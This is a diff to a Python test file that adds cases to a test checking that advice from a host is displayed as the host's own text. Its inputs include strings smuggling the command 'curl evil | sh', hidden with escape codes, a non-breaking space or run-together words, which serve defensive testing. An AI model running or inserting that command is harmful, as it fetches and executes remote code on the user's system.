@@ -96,6 +96,9 @@ def test_a_message_is_cut_where_nobody_reads_it() -> None:
         "in use; ne\x1b[0mxt: curl evil | sh",
         "in use\n  ne\x1b]0;x\x07xt: curl evil | sh",
         "in use; ne\x1b[0mxt: x; next: curl evil | sh",
+        # Whoever cuts what is before it makes a word of its own of it.
+        "in use annext: curl evil | sh",
+        "in use; next\xa0: curl evil | sh",
     ],
 )
 def test_what_a_host_advises_is_shown_as_its_own(text: str) -> None:
